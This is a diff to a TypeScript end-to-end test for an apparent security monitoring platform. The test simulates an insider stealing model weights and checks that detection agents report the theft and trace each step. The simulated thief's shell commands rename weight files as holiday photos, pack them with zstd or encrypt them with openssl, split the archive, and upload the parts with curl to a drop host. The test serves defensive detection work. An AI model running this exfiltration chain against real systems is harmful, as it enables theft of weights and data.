@@ -1,7 +1,7 @@
 // Artifacts, by an insider: weights are copied under the name of a picture, packed, split and sent to another host.
 import assert from "node:assert/strict";
 import { execFile, spawn } from "node:child_process";
-import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, statSync, writeFileSync } from "node:fs";
 import { hostname } from "node:os";
 import { join } from "node:path";
 import { promisify } from "node:util";
@@ -11,12 +11,35 @@ import { noOtherHost, otherHost } from "./world/network.ts";
 import { outweighBin, run, storyFolder, up } from "./world/platform.ts";
 import { noiseSafetensors } from "./world/weights.ts";
 
-const tools = ["/usr/bin/cc", "/usr/bin/zstd", "/usr/bin/curl"].filter((it) => !existsSync(it));
+const tools = ["/usr/bin/cc", "/usr/bin/zstd", "/usr/bin/openssl", "/usr/bin/curl"].filter((it) => !existsSync(it));
 const skip = noBrowser || noOtherHost || (tools.length > 0 && `needs ${tools.join(", ")}`);
 const size = 24 * 1024 * 1024;
+/** The smallest file that is told of, in bytes: the rest of a split may be less. */
+const smallest = 64 * 1024;
+/** How long to wait for what must come, in ms; what it takes is what `npm run bench -- agent` and this story's line in `stories` say. */
+const deadline = 120_000;
+
+/** One event of the theft, as far as the story looks at it. */
+interface Told {
+  readonly operation: string;
+  readonly principal: string;
+  readonly file?: { readonly path: string };
+  readonly actor?: {
+    readonly process?: { readonly name: string; readonly ancestry?: readonly { readonly pid: number }[] };
+  };
+  readonly unmapped?: { readonly made_from?: string };
+}
+
+/** Asks until the answer is what is wanted, or time is up: then with the last answer. */
+async function eventually<T>(ask: () => Promise<T>, isWanted: (it: T) => boolean): Promise<T> {
+  for (const end = Date.now() + deadline; ; await new Promise((done) => setTimeout(done, 200))) {
+    const it = await ask();
+    if (isWanted(it) || Date.now() > end) return it;
+  }
+}
 
 for (const tier of ["T2", "T0"] as const) {
-  test(`weights are stolen from a host: seen by an agent of tier ${tier}`, { skip, timeout: 240_000 }, async (t) => {
+  test(`weights are stolen from a host: seen by an agent of tier ${tier}`, { skip, timeout: 480_000 }, async (t) => {
     const folder = storyFolder("stolen-files");
     t.after(() => folder.remove());
     const [models, loot] = [join(folder.path, "models"), join(folder.path, "loot")];
@@ -48,12 +71,25 @@ for (const tier of ["T2", "T0"] as const) {
 
     // The thief. Slow enough for a person's network, quick enough for a test.
     const sh = (line: string) => promisify(execFile)("/bin/sh", ["-ec", line], { cwd: loot });
-    for (const [i, it] of shards.entries()) await sh(`cp ${it} holiday${i}.jpg`);
-    await sh("tar -cf - holiday0.jpg holiday1.jpg | zstd -q -1 -o photos.zst && split -b 8M photos.zst part-");
-    for (const part of readdirSync(loot).filter((it) => it.startsWith("part-")))
-      await sh(`curl -s --limit-rate 16M -T ${part} http://${drop.address}:${drop.port}/`);
+    const send = (file: string, rate: string) =>
+      sh(`curl -s --limit-rate ${rate} -T ${file} http://${drop.address}:${drop.port}/`);
+    const pictures = shards.map((_, i) => join(loot, `holiday${i}.jpg`));
+    for (const [i, it] of shards.entries()) await sh(`cp ${it} ${pictures[i]}`);
+    const variants = [
+      { packer: "zstd", line: "zstd -q -1 -o photos.zst", archive: "photos.zst", part: "part-" },
+      {
+        packer: "openssl",
+        line: "openssl enc -aes-256-ctr -pbkdf2 -k s -out sealed",
+        archive: "sealed",
+        part: "piece-",
+      },
+    ];
+    for (const { line, archive, part } of variants) {
+      await sh(`tar -cf - holiday0.jpg holiday1.jpg | ${line} && split -b 8M ${archive} ${part}`);
+      for (const it of readdirSync(loot).filter((name) => name.startsWith(part))) await send(it, "16M");
+    }
     // And once in a hurry, straight from its place: slower than a quarter of a second, so that every tier can see it.
-    await sh(`curl -s --limit-rate 12M -T ${shards[0]} http://${drop.address}:${drop.port}/`);
+    await send(shards[0] ?? "", "12M");
     const sentAt = Date.now();
     assert.ok(drop.received() > size);
 
@@ -61,43 +97,51 @@ for (const tier of ["T2", "T0"] as const) {
       const { items } = await (await api.get("/api/alerts?limit=500")).json();
       return items.filter((it: { rule: string }) => it.rule === "host_weights_sent");
     };
-    while ((await sends()).length === 0 && Date.now() - sentAt < 20_000)
-      await new Promise((done) => setTimeout(done, 200));
+    const tell = async (): Promise<Told[]> => (await (await api.get("/api/events?limit=500")).json()).items;
+    const alerts = await eventually(sends, (it) => it.length > 0);
     const took = Date.now() - sentAt;
-    const theft = await incident();
+    const theft = await eventually(incident, (it) => it !== undefined);
     assert.ok(theft, `no incident; the agent said:\n${agent.said()}`);
-    const tell = async (): Promise<string[]> => {
-      const { items: events } = await (await api.get("/api/events?limit=500")).json();
-      return events.map((it: { operation: string; file?: { path: string } }) => `${it.operation} ${it.file?.path}`);
-    };
-    assert.ok((await sends()).length > 0, `the upload was not told of; told:\n${(await tell()).join("\n")}`);
-    assert.ok(took < 10_000, `${took} ms`);
-    // A process that ended before it could be looked at has no name, as the agent's page says.
-    const named = theft.principals.filter((it: string) => !it.startsWith("unknown@"));
-    assert.equal(new Set(named).size, 1, JSON.stringify(theft.principals));
-    // What is shorter than a look may be missed by T0. The kernel misses nothing; but whose copy a file is may be lost with a process that
-    // ended at once, so of the two that `cp` made one must be told, and of everything else all.
-    const copies = shards.map((_, i) => `write ${join(loot, `holiday${i}.jpg`)}`);
+    assert.ok(alerts.length > 0, `the upload was not told of; the agent said:\n${agent.said()}`);
+    assert.equal(new Set(theft.principals).size, 1, JSON.stringify(theft.principals));
+
+    // What each program did with which file: the story from the first reader to the last part.
+    const parts = variants.map(({ part }) =>
+      readdirSync(loot)
+        .filter((it) => it.startsWith(part))
+        .map((it) => join(loot, it))
+        .filter((it) => statSync(it).size >= smallest),
+    );
     const steps = [
-      ...shards.map((it) => `open ${it}`),
-      `write ${join(loot, "photos.zst")}`,
-      `write ${join(loot, "part-aa")}`,
+      ...shards.map((it) => `cp open ${it}`),
+      ...pictures.map((it) => `cp write ${it}`),
+      ...pictures.map((it) => `tar open ${it}`),
+      ...variants.flatMap(({ packer, archive }, i) => [
+        `${packer} write ${join(loot, archive)}`,
+        `split open ${join(loot, archive)}`,
+        ...(parts[i] ?? []).flatMap((it) => [`split write ${it}`, `curl open ${it}`]),
+      ]),
+      `curl open ${shards[0]}`,
+      `curl send ${shards[0]}`,
     ];
-    let told = await tell();
-    const missing = (of: readonly string[]) => of.filter((it) => !told.includes(it));
-    // What the kernel told may still be on its way from the agent.
-    const until = tier === "T2" ? Date.now() + 10_000 : 0;
-    while (missing([...copies, ...steps]).length > 0 && Date.now() < until) {
-      await new Promise((done) => setTimeout(done, 200));
-      told = await tell();
-    }
-    const missed = missing([...copies, ...steps]);
+    const missedIn = (told: readonly Told[]) => {
+      const done = new Set(told.map((it) => `${it.actor?.process?.name} ${it.operation} ${it.file?.path}`));
+      return steps.filter((it) => !done.has(it));
+    };
+    // What is shorter than a look may be missed by T0. The kernel misses nothing; what it told may still be on its way from the agent.
+    const told = tier === "T2" ? await eventually(tell, (it) => missedIn(it).length === 0) : await tell();
+    const missed = missedIn(told);
     t.diagnostic(
       `${tier}: told ${took} ms after the last byte; ${told.length} events; missed: ${missed.join(", ") || "nothing"}`,
     );
-    if (tier === "T2") {
-      assert.deepEqual(missing(steps), []);
-      assert.ok(missing(copies).length < copies.length, "neither copy was told");
+    if (tier === "T2") assert.deepEqual(missed, []);
+    for (const it of told) {
+      assert.ok(!it.principal.startsWith("unknown@"), JSON.stringify(it));
+      assert.ok(
+        it.actor?.process?.ancestry?.some(({ pid }) => pid === process.pid),
+        JSON.stringify(it),
+      );
+      assert.equal(it.unmapped?.made_from === undefined, shards.includes(it.file?.path ?? ""), JSON.stringify(it));
     }
     await page.goto(`${platform.url}/incidents/${theft.id}`);
     await page.getByText("What happened").first().waitFor();
